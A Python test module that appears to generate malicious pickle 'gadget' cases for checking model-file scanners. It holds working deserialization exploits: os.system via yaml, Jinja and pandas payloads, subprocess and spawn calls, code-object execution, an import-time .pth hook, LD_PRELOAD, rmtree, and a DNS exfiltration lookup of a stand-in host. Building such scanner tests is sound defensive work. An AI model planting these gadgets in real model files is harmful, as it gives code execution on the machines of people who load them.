"""Lesser gadgets: functions nobody lists, in the standard library and in what is installed beside a model.

Each row is (name of the case, module, dotted name, arguments); the call is made while the stream is loaded.
"""

from __future__ import annotations

import marshal
from collections.abc import Iterator

from attacks.case import (
    CANARY,
    EXPRESSION,
    SHELL,
    STATEMENT,
    Case,
    Raw,
    call,
    called,
    glob,
    one,
    push,
    stack_glob,
    stream,
    system,
)

KIND = "gadget"
ARGV = ["touch", CANARY]
PORT = ("127.0.0.1", 9)
URL = "http://127.0.0.1:9/weights.bin"
EVIL = stream(system())
CODE = compile(STATEMENT, "<model>", "exec")


def new(module: str, name: str, *arguments: object) -> Raw:
    return call(module, name, *arguments)


EXECUTES: tuple[tuple[str, str, str, tuple[object, ...]], ...] = (
    ("timeit", "timeit", "timeit", (STATEMENT, "pass", glob("time", "time"), 1)),
    ("timeit-repeat", "timeit", "repeat", (STATEMENT, "pass", glob("time", "time"), 1, 1)),
    ("timeit-setup", "timeit", "timeit", ("pass", STATEMENT, glob("time", "time"), 1)),
    ("timeit-main", "timeit", "main", (["-n1", "-r1", STATEMENT],)),
    ("cprofile-run", "cProfile", "run", (STATEMENT,)),
    ("cprofile-runctx", "cProfile", "runctx", (STATEMENT, {}, {})),
    ("profile-run", "profile", "run", (STATEMENT,)),
    ("profile-method", "profile", "Profile.run", (new("profile", "Profile"), STATEMENT)),
    ("trace-run", "trace", "Trace.run", (new("trace", "Trace", 0, 0), STATEMENT)),
    ("bdb-run", "bdb", "Bdb.run", (new("bdb", "Bdb"), STATEMENT)),
    ("bdb-runeval", "bdb", "Bdb.runeval", (new("bdb", "Bdb"), EXPRESSION)),
    ("runpy-run-code", "runpy", "_run_code", (STATEMENT, {})),
    ("code-interpreter", "code", "InteractiveInterpreter.runsource", (new("code", "InteractiveInterpreter"), STATEMENT)),
    ("code-runcode", "code", "InteractiveInterpreter.runcode", (new("code", "InteractiveInterpreter"), STATEMENT)),
    ("doctest-debug-script", "doctest", "debug_script", (STATEMENT,)),
    ("numpy-runstring", "numpy.testing._private.utils", "runstring", (STATEMENT, {})),
    ("numpy-f2py-eval", "numpy.f2py.crackfortran", "param_eval", (EXPRESSION, {}, {})),
    ("torch-collect-env", "torch.utils.collect_env", "run", (SHELL,)),
    ("torch-collect-env-and-read", "torch.utils.collect_env", "run_and_read_all", (glob("torch.utils.collect_env", "run"), SHELL)),
    ("torch-exec-wrapper", "torch.jit.unsupported_tensor_ops", "execWrapper", (STATEMENT, {}, {})),
    ("torch-fx-exec", "torch.fx.graph_module", "_exec_with_source", (STATEMENT, {})),
    ("torch-bottleneck", "torch.utils.bottleneck.__main__", "run_autograd_prof", (STATEMENT, {})),
    ("torch-load-from-bytes", "torch.storage", "_load_from_bytes", (EVIL,)),
    ("torch-datapipes-decoder", "torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", EVIL)),
    ("sympy-sympify", "sympy", "sympify", (EXPRESSION,)),
    ("sympy-parse-expr", "sympy.parsing.sympy_parser", "parse_expr", (EXPRESSION,)),
    ("yaml-unsafe-load", "yaml", "unsafe_load", (f"!!python/object/apply:os.system ['{SHELL}']",)),
    ("hydra-instantiate", "hydra.utils", "instantiate", ({"_target_": "os.system", "_args_": [SHELL]},)),
    ("dill-loads", "dill", "loads", (EVIL,)),
    ("cloudpickle-loads", "cloudpickle", "loads", (EVIL,)),
    ("joblib-cloudpickle-loads", "joblib.externals.cloudpickle", "loads", (EVIL,)),
    ("lib2to3-grammar", "lib2to3.pgen2.grammar", "Grammar.loads", (new("lib2to3.pgen2.grammar", "Grammar"), stream(system()))),
    ("imaplib-stream", "imaplib", "IMAP4_stream", (SHELL,)),
    ("pydoc-pipepager", "pydoc", "pipepager", ("", SHELL)),
    ("pydoc-tempfilepager", "pydoc", "tempfilepager", ("", SHELL + " #")),
    ("mailcap-findmatch", "mailcap", "findmatch", ({"a/b": [{"test": SHELL, "view": "x", "lineno": 0}]}, "a/b", "view")),
    ("uuid-command", "uuid", "_get_command_stdout", ("touch", CANARY)),
    ("osx-support", "_osx_support", "_read_output", (SHELL,)),
    ("asyncio-shell", "asyncio", "run", (call("asyncio", "create_subprocess_shell", SHELL),)),
    ("asyncio-exec", "asyncio", "run", (call("asyncio", "create_subprocess_exec", "touch", CANARY),)),
    ("webbrowser", "webbrowser", "GenericBrowser.open", (new("webbrowser", "GenericBrowser", ["touch", "%s"]), CANARY)),
    ("distutils-spawn", "distutils.spawn", "spawn", (ARGV,)),
    ("psutil-popen", "psutil", "Popen", (ARGV,)),
    ("pty-spawn", "pty", "spawn", (ARGV,)),
    ("os-spawn", "os", "spawnvp", (0, "touch", ARGV)),
    ("os-posix-spawn", "os", "posix_spawn", ("/usr/bin/touch", ARGV, {})),
    ("os-execvp", "os", "execvp", ("touch", ARGV)),
    ("subprocess-getoutput", "subprocess", "getoutput", (SHELL,)),
    ("subprocess-getstatusoutput", "subprocess", "getstatusoutput", (SHELL,)),
    ("multiprocessing-run", "multiprocessing", "Process.run", (call("multiprocessing", "Process", None, glob("os", "system"), None, (SHELL,)),)),
    ("pip-main", "pip", "main", (["-qqq", "--log", CANARY, "config", "list"],)),
    ("pip-internal", "pip._internal.cli.main", "main", (["-qqq", "--log", CANARY, "config", "list"],)),
    ("ensurepip", "ensurepip", "_run_pip", (["-qqq", "--log", CANARY, "config", "list"],)),
    ("jinja-template", "jinja2", "Template.render", (new("jinja2", "Template", "{{ cycler.__init__.__globals__.os.system('" + SHELL + "') }}"),)),
    ("pandas-eval", "pandas.core.computation.eval", "eval", ("@pd.compat.os.system('" + SHELL + "')",)),
    ("ctypes-libc", "builtins", "getattr", (call("ctypes", "CDLL", None), "system")),
)  # fmt: skip

WRITES: tuple[tuple[str, str, str, tuple[object, ...]], ...] = (
    ("logging-filehandler", "logging", "FileHandler", (CANARY,)),
    ("logging-rotating", "logging.handlers", "RotatingFileHandler", (CANARY,)),
    ("open", "io", "open", (CANARY, "w")),
    ("builtins-open", "builtins", "open", (CANARY, "w")),
    ("fileio", "_io", "FileIO", (CANARY, "w")),
    ("codecs-open", "codecs", "open", (CANARY, "w")),
    ("path-touch", "pathlib", "Path.touch", (call("pathlib", "Path", CANARY),)),
    ("path-write", "pathlib", "Path.write_text", (call("pathlib", "Path", CANARY), "x")),
    ("os-mkdir", "os", "mkdir", (CANARY,)),
    ("os-symlink", "os", "symlink", ("/etc/hostname", CANARY)),
    ("os-makedirs", "os", "makedirs", (CANARY,)),
    ("shutil-copyfile", "shutil", "copyfile", ("/etc/hosts", CANARY)),
    ("tempfile-mkstemp", "tempfile", "mkstemp", ("", CANARY.rsplit("/", 1)[-1], CANARY.rsplit("/", 1)[0])),
    ("sqlite3-connect", "sqlite3", "connect", (CANARY,)),
    ("shelve-open", "shelve", "open", (CANARY,)),
    ("dbm-dumb", "dbm.dumb", "open", (CANARY, "n")),
    ("zipfile-create", "zipfile", "ZipFile", (CANARY, "w")),
    ("tarfile-create", "tarfile", "TarFile.open", (CANARY, "w")),
    ("gzip-open", "gzip", "open", (CANARY, "wb")),
    ("lzma-file", "lzma", "LZMAFile", (CANARY, "wb")),
    ("distutils-write-file", "distutils.file_util", "write_file", (CANARY, ["x"])),
    ("numpy-save", "numpy", "save", (CANARY, [1])),
    ("numpy-memmap", "numpy", "memmap", (CANARY, "uint8", "w+", 0, (1,))),
    ("numpy-savetxt", "numpy", "savetxt", (CANARY, [1])),
    ("torch-save", "torch", "save", ({}, CANARY)),
    ("torch-from-file", "torch", "from_file", (CANARY, True, 4)),
    ("joblib-dump", "joblib", "dump", ({}, CANARY)),
    ("h5py-file", "h5py", "File", (CANARY, "w")),
    ("urlretrieve-file", "urllib.request", "urlretrieve", ("file:///etc/hosts", CANARY)),
    ("py-compile", "py_compile", "compile", ("/usr/lib/python3/no.py", CANARY)),
)  # fmt: skip

CONNECTS: tuple[tuple[str, str, str, tuple[object, ...]], ...] = (
    ("socket", "socket", "create_connection", (PORT,)),
    ("urlopen", "urllib.request", "urlopen", (URL,)),
    ("smtplib", "smtplib", "SMTP", PORT),
    ("ftplib", "ftplib", "FTP", ("127.0.0.1",)),
    ("poplib", "poplib", "POP3", PORT),
    ("telnetlib", "telnetlib", "Telnet", PORT),
    ("ssl-certificate", "ssl", "get_server_certificate", (PORT,)),
    ("requests", "requests", "get", (URL,)),
    ("torch-hub-url", "torch.hub", "download_url_to_file", (URL, CANARY)),
    ("torchvision-url", "torchvision.datasets.utils", "download_url", (URL, "/tmp")),
    ("pandas-read-csv", "pandas", "read_csv", (URL,)),
    ("numpy-datasource", "numpy.lib.npyio", "DataSource.open", (call("numpy.lib.npyio", "DataSource", None), URL)),
    ("dns-exfiltration", "socket", "gethostbyname", ("model-was-loaded.invalid",)),
    ("xmlrpc", "xmlrpc.client", "ServerProxy", (URL,)),
)  # fmt: skip

LOADS: tuple[tuple[str, str, str, tuple[object, ...]], ...] = (
    ("pandas-read-pickle", "pandas", "read_pickle", ("inner.bin",)),
    ("joblib-load", "joblib", "load", ("inner.bin",)),
    ("numpy-load", "numpy", "load", ("inner.bin", None, True)),
    ("dill-load-module", "dill", "load", (call("io", "open", "inner.bin", "rb"),)),
    ("cloudpickle-load", "cloudpickle", "load", (call("io", "open", "inner.bin", "rb"),)),
    ("torch-legacy-load", "torch.serialization", "_legacy_load", (call("io", "open", "inner.bin", "rb"), None, call("importlib", "import_module", "pickle"))),
)  # fmt: skip


NOT_HERE = {
    "py-compile",
    "xmlrpc",
    "doctest-debug-script",
    "torch-bottleneck",
    "hydra-instantiate",
    "joblib-cloudpickle-loads",
    "pandas-eval",
}
"""Gadgets that fire in other releases of their library, or only where something else is at hand."""


def cases() -> Iterator[Case]:
    for rows in (EXECUTES, WRITES, CONNECTS):
        for name, module, function, arguments in rows:
            body = call(module, function, *arguments)
            if name == "ctypes-libc":
                body = called(body, SHELL.encode())
            loader = "none" if name in NOT_HERE else "pickle"
            yield one(KIND, name, stream(body), loader=loader)
    for name, module, function, arguments in LOADS:
        files = {"model.pkl": stream(call(module, function, *arguments)), "inner.bin": EVIL}
        yield Case(id=f"{KIND}/{name}", kind=KIND, files=files, loader="pickle", entry="model.pkl")
    yield from code_objects()
    yield from imports()
    yield from hidden_tools()


def code_objects() -> Iterator[Case]:
    loaded = call("marshal", "loads", marshal.dumps(CODE))
    yield one(KIND, "marshal-function", stream(called(call("types", "FunctionType", loaded, {}))))
    yield one(KIND, "marshal-exec", stream(call("builtins", "exec", loaded)))
    yield one(
        KIND, "compile-exec", stream(call("builtins", "exec", call("builtins", "compile", STATEMENT, "m", "exec")))
    )
    yield one(
        KIND,
        "dill-create-function",
        stream(called(call("dill._dill", "_create_function", loaded, {}, "f", None, None))),
    )
    yield one(
        KIND,
        "cloudpickle-make-function",
        stream(
            called(
                call(
                    "cloudpickle.cloudpickle",
                    "_make_function",
                    loaded,
                    {"__builtins__": {}, "open": glob("builtins", "open")},
                    "f",
                    None,
                    None,
                )
            )
        ),
    )
    yield one(
        KIND,
        "type-made",
        stream(call("builtins", "type", "T", (), {"__del__": glob("builtins", "print")})),
        loader="none",
    )


def imports() -> Iterator[Case]:
    """Importing executes: a name that is only looked up, in a module that lies beside the model."""
    module = STATEMENT.encode() + b"\nWeights = dict\n"
    yield Case(
        id=f"{KIND}/import-beside-model",
        kind=KIND,
        files={"model.pkl": stream(glob("modeling_weights", "Weights"), 2), "modeling_weights.py": module},
        loader="pickle",
        entry="model.pkl",
    )
    yield Case(
        id=f"{KIND}/runpy-run-path",
        kind=KIND,
        files={"model.pkl": stream(call("runpy", "run_path", "readme.txt")), "readme.txt": module},
        loader="pickle",
        entry="model.pkl",
    )
    yield Case(
        id=f"{KIND}/source-file-loader",
        kind=KIND,
        files={
            "model.pkl": stream(
                call(
                    "importlib.machinery",
                    "SourceFileLoader.load_module",
                    call("importlib.machinery", "SourceFileLoader", "readme", "readme.txt"),
                )
            ),
            "readme.txt": module,
        },
        loader="pickle",
        entry="model.pkl",
    )
    yield Case(
        id=f"{KIND}/site-addsitedir",
        kind=KIND,
        files={
            "model.pkl": stream(call("site", "addsitedir", ".")),
            "weights.pth": b"import os; " + STATEMENT.encode() + b"\n",
        },
        loader="pickle",
        entry="model.pkl",
    )
    yield one(KIND, "import-only-antigravity", stream(glob("antigravity", "fly"), 2), loader="none")
    yield one(KIND, "import-only-idlelib", stream(glob("idlelib.run", "Executive"), 2), loader="none")
    yield one(KIND, "idlelib-runcode", stream(call("idlelib.run", "Executive.runcode", None, STATEMENT)), loader="none")
    yield one(KIND, "pdb-run", stream(call("pdb", "run", STATEMENT)), loader="none")


def hidden_tools() -> Iterator[Case]:
    """State that changes the process, and reads that give a file away."""
    yield one(KIND, "sys-settrace", stream(call("sys", "settrace", glob("builtins", "print"))), loader="none")
    yield one(KIND, "signal-alarm", stream(call("signal", "alarm", 1)), loader="none")
    yield one(KIND, "os-kill-self", stream(call("os", "kill", 0, 0)), loader="none")
    yield one(KIND, "os-putenv", stream(call("os", "putenv", "LD_PRELOAD", "weights.so")), loader="none")
    yield one(KIND, "linecache-read", stream(call("linecache", "getlines", "/etc/hosts")), loader="none")
    yield one(KIND, "sys-path-insert", stream(called(stack_glob("sys", "path.insert"), 0, ".")), loader="none")
    yield one(
        KIND, "torch-load-library", stream(called(stack_glob("torch", "ops.load_library"), "weights.so")), loader="none"
    )
    yield one(KIND, "ctypes-cdll", stream(call("ctypes", "CDLL", "weights.so")), loader="none")
    yield one(KIND, "setrecursionlimit", stream(call("sys", "setrecursionlimit", 100_000_000)), loader="none")
    yield one(KIND, "gc-objects", stream(call("gc", "get_objects")), loader="none")
    yield one(KIND, "shutil-rmtree", stream(call("shutil", "rmtree", CANARY + "-gone", True)), loader="none")
    yield one(
        KIND,
        "state-of-file",
        stream(Raw(glob("collections", "OrderedDict") + b")R" + push({"x": call("os", "getenv", "HOME")}) + b"b")),
        loader="none",
    )
